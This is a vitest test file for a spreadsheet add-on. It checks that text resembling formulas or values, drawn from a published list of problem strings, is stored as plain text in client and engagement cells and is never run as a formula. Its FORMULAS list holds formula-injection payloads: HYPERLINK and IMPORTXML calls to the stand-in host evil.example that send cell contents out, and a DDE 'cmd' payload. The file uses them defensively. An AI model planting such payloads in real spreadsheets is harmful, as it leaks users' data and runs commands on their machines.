import { createRequire } from 'node:module';
import { describe, expect, test } from 'vitest';
import { newId } from '#shared/base/id.ts';
import { cleanText } from '#shared/base/text.ts';
import { blankRecord } from '#shared/model/book.ts';
import { adding, type Change } from '#shared/table/book/change.ts';
import { addonHome, practiceSheet } from '#test/support/sheets/addon-home.ts';
import { servicesOver } from '#test/support/sheets/services-over.ts';
import { openScript } from '#test/support/sheets/script-host.ts';
import { FakeWorkbook } from '#test/support/sheets/workbook.ts';
import { writeEdits } from '#sheets-addon/apps-script/write-edits.ts';

const PUBLISHED = createRequire(import.meta.url)('big-list-of-naughty-strings') as readonly string[];

const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '==',
  '=+',
  '+=',
  "'=",
  "'",
  ' =',
  '\t=',
  '\n=',
  '\uff1d',
  '\uff0b',
  '-+',
  '@=',
];
const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example/?"&A1,"Click")',
  'IMPORTXML("http://evil.example","//a")',
  "cmd|'/C calc'!A0",
];
const VALUES = [
  '1/2',
  '12:30',
  '2026-10-22',
  '2026-10-22 16:00',
  '€5',
  'EUR 5',
  '5%',
  '1e5',
  'TRUE',
  '007',
  '0x1F',
  '1,000.5',
];

/** The published list, signs that begin a formula with what may follow, and words that look like a value. */
const TEXTS = [
  ...PUBLISHED,
  ...SIGNS.flatMap((sign) => FORMULAS.map((formula) => `${sign}${formula}`)),
  ...VALUES,
]
  .map(cleanText)
  .filter((text) => text.trim() !== '');

const inputsOf = (book: FakeWorkbook, title: string) =>
  [...book.tab(title).filled()].map(({ input }) => input);

const formulasIn = (book: FakeWorkbook) =>
  book.tabs.flatMap((tab) => [...tab.filled()].filter(({ row, input }) => 'formula' in input && row > 0));

describe('texts that look like formulas or values', () => {
  test('the list is as long as it was meant to be', () => {
    expect(TEXTS.length).toBeGreaterThan(506);
  });

  test('stay the texts they are: no formula cell, no letter changed, through the gateway', async () => {
    const book = practiceSheet(new FakeWorkbook('injected'));
    const home = addonHome(book);
    const id = (n: number) => newId('cli', 1.7e12, Uint8Array.from([0, n >> 16, n >> 8, n & 255]));
    const changes = TEXTS.map((name, n): Change =>
      adding('clients', { ...blankRecord('clients', id(n)), name, notes: name }),
    );
    const applied = await home.apply(changes, (await home.load()).revision);
    expect(applied.kind).toBe('applied');
    expect((await home.load()).book.clients.map(({ name }) => name)).toEqual(TEXTS);
    expect(formulasIn(book)).toEqual([]);
    expect(inputsOf(book, 'Clients').every((input) => 'text' in input)).toBe(true);
  });

  test('stay texts in the derived tabs and the dropdowns, after a recalculation and after another', async () => {
    const book = practiceSheet(new FakeWorkbook('derived'));
    const home = addonHome(book);
    const texts = TEXTS.filter((text) => /^\s*['=+@-]|^\d/.test(text)).slice(0, 120);
    const changes = texts.flatMap((text, n): Change[] => {
      const [client, engagement] = ['cli', 'eng'].map((prefix) =>
        newId(prefix, 1.7e12, Uint8Array.from([0, 1, n >> 8, n & 255])),
      );
      return [
        adding('clients', { ...blankRecord('clients', client ?? ''), name: text }),
        adding('engagements', {
          ...blankRecord('engagements', engagement ?? ''),
          title: text,
          client: client ?? '',
        }),
      ];
    });
    await home.apply(changes, (await home.load()).revision);
    const host = openScript(book, 1.8e12);
    host.call('menuRecalculate');
    host.call('menuRecalculate');
    expect(host.screen.alerts).toEqual([]);
    expect(formulasIn(book)).toEqual([]);
    const names = host.spreadsheet.getSheetByName('Guarantee')?.getDataRange().getValues().slice(2).map(([name]) => name); // prettier-ignore
    // The tab lists them by name, not in the order of their rows.
    expect([...(names ?? [])].sort()).toEqual([...texts].sort());
    expect((await home.load()).book.engagements.map(({ title }) => title)).toEqual(texts);
  });

  test('stay texts in cells a person gave another format: a day, an amount, none', () => {
    const book = new FakeWorkbook('formats');
    const services = servicesOver(book);
    const sheet = book.tab('Sheet1');
    for (const [column, pattern] of ['yyyy-mm-dd', '#,##0.00', 'General'].entries())
      for (let row = 0; row < TEXTS.length; row++)
        sheet.put(row, column, { format: { numberFormat: { type: 'NUMBER', pattern } } });
    const cells = TEXTS.flatMap((cell, row) =>
      [0, 1, 2].map((column) => ({ row, column, cell, format: '@' })),
    );
    writeEdits(services.spreadsheet(), [{ tab: 'Sheet1', cells }], services);
    expect([...sheet.filled()].every(({ row, input }) => 'text' in input && input.text === TEXTS[row])).toBe(
      true,
    );
  });
});
